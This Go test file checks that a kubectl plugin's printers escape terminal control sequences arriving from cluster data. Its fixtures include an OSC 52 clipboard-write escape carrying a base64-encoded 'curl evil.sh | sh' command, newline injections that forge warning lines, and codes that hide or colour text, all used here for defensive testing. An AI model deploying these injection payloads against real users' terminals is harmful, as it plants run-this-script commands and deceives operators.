package printers

import (
	"bytes"
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	cliprinters "k8s.io/cli-runtime/pkg/printers"

	"github.com/kubectl-ship/kubectl-ship/pkg/release"
)

// Hostile strings anyone may write in the cluster: an OSC 52 clipboard write,
// a newline that forges a line, a carriage return that hides one, a colour.
const (
	osc52   = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
	forged  = "\nWarnings:\n  none, all fine"
	hidden  = "\r\x1b[2K"
	colored = "\x1b[31m"
)

func hostileStatus() *release.Status {
	st := canaryStatus()
	st.Operation = "kubectl ship promote ctwoc" + osc52 + " by eve" + forged + " since 10:30:00, until 10:36:00"
	st.Deployments[1].Containers[0].Image = "example/ctwoc:2.0.0" + colored
	st.Deployments[1].Revision = "1" + hidden
	st.Services[0].ReadyEndpoints["other"] = 1
	st.Services[0].Others = []release.OtherOwner{{Kind: "Evil" + osc52, Name: "x" + forged, ReadyEndpoints: 1}}
	st.Warnings = append(st.Warnings, "operation in progress: "+st.Operation)
	return st
}

func hostileHistory() *release.History {
	at := metav1.NewTime(time.Date(2026, 11, 25, 10, 0, 0, 0, time.UTC))
	return &release.History{
		ObjectMeta: metav1.ObjectMeta{Name: "ctwoc", Namespace: "demo"},
		Revisions: []release.Revision{{Revision: 1, Created: at, ChangeCause: "approved" + hidden + forged, Current: true,
			Containers: []release.Container{{Name: "app", Image: "example/ctwoc:1.0.0" + osc52, Type: release.ContainerApp}}}},
		Operations: []release.Operation{{Time: at, Command: "kubectl ship promote ctwoc" + colored + forged,
			Changes: []string{"deployment.apps/ctwoc promoted" + osc52}, Error: "approved by security team" + hidden}},
	}
}

// assertInert fails when out holds a control character other than the
// newlines that end its own lines, or has more lines than want.
func assertInert(t *testing.T, out string, lines int) {
	t.Helper()
	if i := strings.IndexFunc(out, func(r rune) bool { return (r < 0x20 && r != '\n') || r == 0x7f }); i >= 0 {
		t.Errorf("control character %q reaches the terminal at %d:\n%s", out[i], i, out)
	}
	if got := strings.Count(out, "\n"); got != lines {
		t.Errorf("%d lines, want %d: a newline from the cluster forged a line:\n%s", got, lines, out)
	}
}

func TestStatusTextEscapesTheCluster(t *testing.T) {
	var out bytes.Buffer
	if err := Status(&out, hostileStatus()); err != nil {
		t.Fatal(err)
	}
	assertInert(t, out.String(), 13)
	golden(t, "status-hostile.txt", out.Bytes())
}

func TestHistoryTextEscapesTheCluster(t *testing.T) {
	var out bytes.Buffer
	if err := History(&out, hostileHistory()); err != nil {
		t.Fatal(err)
	}
	assertInert(t, out.String(), 7)
	golden(t, "history-hostile.txt", out.Bytes())
}

func TestReleaseTableEscapesTheCluster(t *testing.T) {
	list := &release.StatusList{Items: []*release.Status{hostileStatus()}}
	var out bytes.Buffer
	p := cliprinters.NewTablePrinter(cliprinters.PrintOptions{Wide: true})
	if err := p.PrintObj(ReleaseTable(list, time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)), &out); err != nil {
		t.Fatal(err)
	}
	assertInert(t, out.String(), 2)
	if !strings.Contains(out.String(), `other (evil^[]52;c;y3vybcbldmlslnnoihwgc2g=\x07/x\nWarnings:\n  none, all fine) 0.0% (1)`) {
		t.Errorf("the owner is not shown escaped:\n%s", out.String())
	}
}
